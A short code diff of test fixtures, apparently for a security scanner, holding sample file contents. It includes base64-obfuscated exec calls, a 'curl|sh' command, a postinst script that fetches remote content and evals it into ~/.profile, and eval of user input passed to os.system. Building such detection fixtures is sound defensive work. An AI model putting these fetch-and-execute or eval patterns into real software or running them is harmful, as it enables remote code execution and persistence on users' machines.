@@ -95,7 +95,7 @@ MADE = {
     "keys.log": b"# TLS secrets\nCLIENT_RANDOM %b %b\n" % (b"0a" * 32, b"1B" * 48),
     **archive_seeds.MADE,
     "hello.py": b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl|sh')",
-    "postinst": b"#!/bin/sh\nset -e\nX=$(curl -s h | base64 -d)\neval \"$X\" >> ~/.profile\n",
+    "postinst": b'#!/bin/sh\nset -e\nX=$(curl -s h | base64 -d)\neval "$X" >> ~/.profile\n',
     "tool": b"#!/usr/bin/env python3\nimport os\nos.system(eval(input()))\n",
     "hello.js": b"const {x: y} = require('child_process'); eval(atob('YWxlcnQoMSk=')); y(`a${1}`)",
 }
